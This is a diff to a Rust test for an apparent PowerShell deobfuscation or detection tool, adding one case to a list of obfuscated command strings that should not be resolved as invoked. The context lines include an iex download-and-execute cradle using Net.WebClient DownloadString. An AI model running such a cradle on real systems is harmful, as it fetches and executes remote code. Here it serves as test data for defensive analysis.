@@ -160,6 +160,7 @@ fn what_is_not_known_stays() {
         "iex (Get-Content ('a' + '-b'))",
         "iex ((New-Object Net.WebClient).DownloadString('http://h/' + $p))",
         "& $f ('a' -f (Get-Random))",
+        "& $tool ('--na'+'me')",
     ] {
         let found = unwrap(text);
         assert!(found.layers.iter().all(|layer| layer.how != How::Invoked), "{text}: {found:?}");
